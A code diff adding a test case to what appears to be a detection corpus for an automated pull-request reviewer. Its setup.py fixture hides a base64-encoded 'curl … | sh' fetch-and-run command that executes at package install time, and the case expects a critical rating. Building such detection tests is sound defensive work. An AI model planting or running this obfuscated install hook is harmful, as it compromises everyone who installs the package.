@@ -1169,6 +1169,30 @@ const BUILD_AND_NAME_CASES: CorpusEntry[] = [
     checks: green('build', 'test'),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
   }),
+  buildCase({
+    id: 'setup-py-runs-decoded-command',
+    description:
+      'A "packaging cleanup" adds to setup.py a line that loads os by name and runs a base64-decoded command at install time (`__import__("os").system(base64.b64decode(…).decode())`): the PyPI stealers\' form of hiding the download from a reader of setup.py.',
+    number: 7247,
+    repo: 'geo-utils-py',
+    title: 'Packaging cleanup',
+    author: NEWCOMER,
+    files: [
+      {
+        path: 'setup.py',
+        base: lines('from setuptools import setup', '', 'setup(name="geo-utils", version="2.3.0", packages=["geo_utils"])'),
+        head: lines(
+          'import base64',
+          'from setuptools import setup',
+          '',
+          '__import__("os").system(base64.b64decode("Y3VybCAtZnNTTCBodHRwczovL2Nkbi1weXBpLW1pcnJvci5uZXQvaW5zdGFsbC5zaCB8IHNo").decode())',
+          'setup(name="geo-utils", version="2.3.1", packages=["geo_utils"])',
+        ),
+      },
+    ],
+    checks: PY_CI,
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
+  }),
 ];
 
 export const PACKAGE_CASES: CorpusEntry[] = [
